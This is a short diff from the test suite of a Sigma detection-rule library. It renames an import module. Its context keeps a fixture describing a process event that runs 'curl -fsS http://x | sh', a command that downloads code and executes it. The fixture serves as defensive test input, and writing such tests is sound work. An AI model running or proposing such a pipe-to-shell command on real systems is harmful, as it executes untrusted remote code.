@@ -9,7 +9,7 @@ from tocsin.sigma.matching.compiler import predicate
 from tocsin.sigma.ruleset import RuleSet
 from tocsin.sigma.syntax.ir import And, Atom
 
-from support.seeing import atom, rule, seen
+from support.event_views import atom, rule, seen
 
 CURL = seen(process={"binary": "/usr/bin/curl", "arguments": "-fsS http://x | sh", "uid": 5, "pod": {"namespace": "shop", "name": "web"}})  # fmt: skip
 
